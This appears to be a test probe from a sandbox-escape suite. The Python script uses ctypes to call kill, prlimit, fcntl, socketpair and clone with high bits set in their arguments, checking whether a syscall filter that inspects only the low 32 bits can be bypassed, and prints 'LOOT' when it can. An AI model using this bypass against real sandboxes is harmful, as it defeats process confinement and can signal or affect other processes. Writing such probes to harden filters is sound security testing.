"""Hides what it asks for in the half of an argument that a filter does not see.

most: 0
control: yes
"""

import ctypes
import os
import platform

from known import BYSTANDER

if platform.machine() not in ("x86_64", "aarch64"):
    raise ImportError("no numbers for this machine")
kill, prlimit, fcntl, clone, pair = (
    (62, 302, 72, 56, 53) if platform.machine() == "x86_64" else (129, 261, 25, 220, 199)
)
libc = ctypes.CDLL(None, use_errno=True)
HIGH = 1 << 32
buffer = ctypes.create_string_buffer(16)


def call(number, *arguments):
    return libc.syscall(number, *(ctypes.c_ulong(a & (1 << 64) - 1) for a in arguments))


if call(kill, BYSTANDER | HIGH, 0) == 0 or call(kill, -1, 0) == 0 or call(kill, HIGH, 0) == 0:
    print("LOOT kill")
if call(prlimit, BYSTANDER | HIGH, 7, 0, ctypes.addressof(buffer)) == 0:
    print("LOOT prlimit")
if call(fcntl, 1, 1024 | HIGH, 2) == 0 or call(fcntl, 1, 8 | HIGH, os.getpid()) == 0:
    print("LOOT fcntl")
for family in (2, 10, 16, 17, 40):
    if call(pair, family | HIGH, 1, 0, ctypes.addressof(buffer)) == 0 or call(pair, 1 << 40 | family, 2, 0, 0) == 0:
        print("LOOT pair", family)
pid = call(clone, 17 | HIGH, 0, 0, 0, 0)
if pid == 0:
    os._exit(0)
if pid > 0:
    print("LOOT clone")
